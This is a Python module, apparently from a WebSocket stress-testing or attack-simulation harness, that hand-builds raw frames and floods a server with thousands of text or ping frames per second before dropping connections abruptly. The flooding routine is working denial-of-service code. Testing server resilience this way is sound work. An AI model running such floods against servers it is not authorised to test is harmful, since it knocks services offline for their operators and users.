"""Floods of frames over WebSockets."""

from __future__ import annotations

import asyncio
from collections.abc import Callable

from attacker import Attacker
from websockets.asyncio.client import ClientConnection, connect
from websockets.protocol import State

FINAL, TEXT, PING = 0x80, 1, 9
NO_MASK = b"\0\0\0\0"
"""A mask is demanded of clients, but not which one; this one changes nothing."""

LONG = 126
"""Contents of as many bytes have their length in two bytes of its own."""

MAX_UNSENT = 200_000
"""Bytes of a flood that may wait to be sent."""


def frame(opcode: int, content: bytes) -> bytes:
    """A frame as it is sent."""
    length = len(content)
    long = length >= LONG
    head = bytes((FINAL | opcode, FINAL | (LONG if long else length)))
    return head + (length.to_bytes(2) if long else b"") + NO_MASK + content


async def flood(
    attacker: Attacker, way: Callable[[], connect], content: Callable[[], bytes]
) -> None:
    """Sends frames some thousand times a second."""
    while attacker.goes_on():
        socket = await attacker.opened(way())
        if socket is None:
            await asyncio.sleep(0.05)
            continue
        attacker.got["opened"] += 1
        hearing = asyncio.create_task(attacker.hear(socket))
        while attacker.goes_on() and socket.state is State.OPEN:
            if socket.transport.get_write_buffer_size() < MAX_UNSENT:
                socket.transport.write(b"".join(content() for _ in range(50)))
            await asyncio.sleep(0.01)
        await leave(socket, hearing)


async def leave(socket: ClientConnection, hearing: asyncio.Task[None]) -> None:
    """Goes without a word."""
    socket.transport.abort()
    await hearing
